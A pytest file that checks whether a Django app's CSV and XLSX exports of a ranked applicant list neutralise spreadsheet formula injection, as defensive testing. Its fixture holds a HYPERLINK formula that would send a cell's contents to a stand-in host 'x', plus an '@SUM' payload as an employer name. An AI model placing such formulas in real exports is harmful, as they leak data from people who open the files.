"""The public list's CSV and XLSX: an applicant's name or employer is never a live formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from tests import factories
from tests.publicity.helpers import facts

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?q="&C2,"y")'


@pytest.fixture
def ranked_2020(tmp_path):
    """Two applicants ranked in 2020: one named like a formula, with a 行政拘留 (-30.00)."""
    factories.RoundFactory(year=2020, quota=5)
    bad = facts(1, name=HYPERLINK, employer={**facts(1)["employer"], "name": "@SUM(1+1)"})
    bad["detentions"] = ["2019-05-01"]
    path = tmp_path / "facts.jsonl"
    path.write_text(
        "\n".join(json.dumps(item, ensure_ascii=False) for item in [bad, facts(2)]) + "\n",
        encoding="utf-8",
    )
    call_command("import_facts", "--year", "2020", str(path))
    call_command("rank_round", "--year", "2020")
    return tmp_path


def export(tmp_path, fmt):
    out = tmp_path / f"list.{fmt}"
    call_command("export_publicity", "--year", "2020", "--format", fmt, "--out", str(out))
    return out.read_bytes()


def test_a_formula_like_name_and_employer_are_inert_in_the_csv(ranked_2020):
    rows = list(csv.DictReader(io.StringIO(export(ranked_2020, "csv").decode("utf-8-sig"))))
    row = next(r for r in rows if HYPERLINK in r["name"])

    assert row["name"] == "'" + HYPERLINK
    assert row["employer"] == "'@SUM(1+1)"
    assert row["law_record"] == "-30.00"  # a deduction is a number, not neutralised text
    assert all(not r["total"].startswith("'") for r in rows)


def test_a_formula_like_name_and_employer_are_text_cells_in_the_xlsx(ranked_2020):
    sheet = load_workbook(io.BytesIO(export(ranked_2020, "xlsx"))).active
    headers = [cell.value for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
    row = next(r for r in sheet.iter_rows(min_row=3) if r[headers.index("姓名")].value == HYPERLINK)
    name, employer = row[headers.index("姓名")], row[headers.index("单位名称")]
    deduction = row[headers.index("守法记录")]

    assert (name.data_type, employer.data_type) == ("s", "s")
    assert employer.value == "@SUM(1+1)"
    assert (deduction.value, deduction.data_type) == (-30, "n")
